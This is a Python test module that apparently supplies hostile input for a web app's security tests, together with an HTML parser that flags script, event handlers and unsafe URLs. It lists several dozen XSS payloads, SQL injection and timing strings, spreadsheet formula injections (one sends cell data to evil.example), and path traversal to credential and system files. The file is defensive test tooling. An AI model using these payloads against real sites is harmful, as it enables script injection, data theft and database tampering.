"""A corpus of hostile input: what an attacker types into every text field.

Every markup payload, if a page ever ran it, sets ``window.__pwned`` (the browser test looks for
it) and carries the marker ``__pwned`` (the HTML checks look for it in executable places).
"""

from __future__ import annotations

import re
from html.parser import HTMLParser

SET = "window.__pwned=1"

MARKUP = [
    f"<script>{SET}</script>",
    f"<SCRIPT SRC=data:text/javascript,{SET}></SCRIPT>",
    f'"><script>{SET}</script>',
    f"'><img src=x onerror={SET}>",
    f"</textarea><script>{SET}</script>",
    f"</title><script>{SET}</script>",
    f'<img src=x onerror="{SET}">',
    f"<svg onload={SET}>",
    f"<svg><script>{SET}</script></svg>",
    f'<svg><a xlink:href="javascript:{SET}"><text y="20">svg link</text></a></svg>',
    f"<math><mtext><table><mglyph><style><img src=x onerror={SET}></style></mglyph></table></mtext></math>",
    f'<noscript><p title="</noscript><img src=x onerror={SET}>"></noscript>',
    f"<details open ontoggle={SET}><summary>x</summary></details>",
    f"<body onload={SET}>",
    f"<input autofocus onfocus={SET}>",
    f"<select autofocus onfocus={SET}></select>",
    f"<video><source onerror={SET}></video>",
    f"<iframe src=javascript:{SET}></iframe>",
    f'<iframe srcdoc="<script>parent.{SET}</script>"></iframe>',
    f'<object data="javascript:{SET}"></object>',
    f'<embed src="data:text/html,<script>parent.{SET}</script>">',
    f'<form action="javascript:{SET}"><button>go</button></form>',
    f'<button formaction="javascript:{SET}">go</button>',
    f'<meta http-equiv="refresh" content="0;url=javascript:{SET}">',
    '<base href="javascript:/__pwned/">',
    f'<a href="javascript:{SET}">click</a>',
    f'<a href="JaVaScRiPt:{SET}">click</a>',
    f'<a href="jav&#x09;ascript:{SET}">click</a>',
    f'<a href="&#106;avascript:{SET}">click</a>',
    f'<a href=" javascript:{SET}">click</a>',
    f'<a href="vbscript:{SET}">click</a>',
    f'<a href="data:text/html,<script>{SET}</script>">click</a>',
    f"[markdown link](javascript:{SET})",
    "[markdown data link](data:text/html;base64,PHNjcmlwdD53aW5kb3cuX19wd25lZD0xPC9zY3JpcHQ+)",
    f"![markdown image](javascript:{SET})",
    f"<javascript:{SET}>",
    f'<div style="background:url(javascript:{SET})">styled</div>',
    f"<style>@import 'javascript:{SET}'; body {{ background: red }}</style>",
    f'<a href="#" onclick="{SET}">x</a><x onmouseover={SET}>hover</x>',
    f"{{{{ {SET} }}}} {{% debug %}} ${{{SET}}} <%= {SET} %>",
]

OTHER = [
    "> " * 2_000 + "deep quote",
    "[" * 5_000 + "deep link" + "]" * 5_000,
    "*" * 5_000 + "emphasis" + "*" * 5_000,
    "<div>" * 3_000 + "deep html" + "</div>" * 3_000,
    "zero\u200bwidth\u200cjoiner\u200dand\ufeffBOM",
    "right-to-left \u202eexe.txt\u202c override \u2066isolate\u2069",
    "'; DROP TABLE channel_memo; --",
    '" OR 1=1 -- ',
    "1; SELECT pg_sleep(10)",
    '=HYPERLINK("http://evil.example/?x="&A1,"Click")',
    "+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "../../../../etc/passwd",
    "..\\..\\windows\\system32\\config",
]
ALL = MARKUP + OTHER

# Attribute values that would run, or navigate to, script or an attacker's page.
UNSAFE_URL = re.compile(r"^\s*(javascript|vbscript|data):", re.IGNORECASE)
URL_ATTRIBUTES = {
    "href",
    "src",
    "action",
    "formaction",
    "data",
    "xlink:href",
    "srcdoc",
    "background",
    "poster",
}
FORBIDDEN_TAGS = {"iframe", "object", "embed", "svg", "math", "base", "frame", "frameset", "applet", "style"}


class UnsafeMarkup(HTMLParser):
    """Everything in a page that a browser would run or load: the page's own static script and
    style sheet aside, a clean page yields nothing."""

    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.found: list[str] = []
        self.in_script = False

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        values = {name: value or "" for name, value in attrs}
        if tag in FORBIDDEN_TAGS:
            self.found.append(f"<{tag}>")
        if tag == "script":
            self.in_script = True
            if not values.get("src", "").startswith("/static/"):
                self.found.append(f"<script src={values.get('src')!r}>")
        if tag == "link" and not values.get("href", "").startswith("/static/"):
            self.found.append(f"<link href={values.get('href')!r}>")
        if tag == "meta" and "http-equiv" in values:
            self.found.append(f"<meta http-equiv={values['http-equiv']!r}>")
        for name, value in values.items():
            if name.startswith("on"):
                self.found.append(f"<{tag} {name}=…>")
            elif name == "style":
                self.found.append(f"<{tag} style=…>")
            elif name in URL_ATTRIBUTES and UNSAFE_URL.match(value):
                self.found.append(f"<{tag} {name}={value[:40]!r}>")

    def handle_endtag(self, tag: str) -> None:
        if tag == "script":
            self.in_script = False

    def handle_data(self, data: str) -> None:
        if self.in_script and data.strip():
            self.found.append(f"<script>{data[:40]!r}")


def unsafe_markup(html: str) -> list[str]:
    parser = UnsafeMarkup()
    parser.feed(html)
    parser.close()
    return parser.found
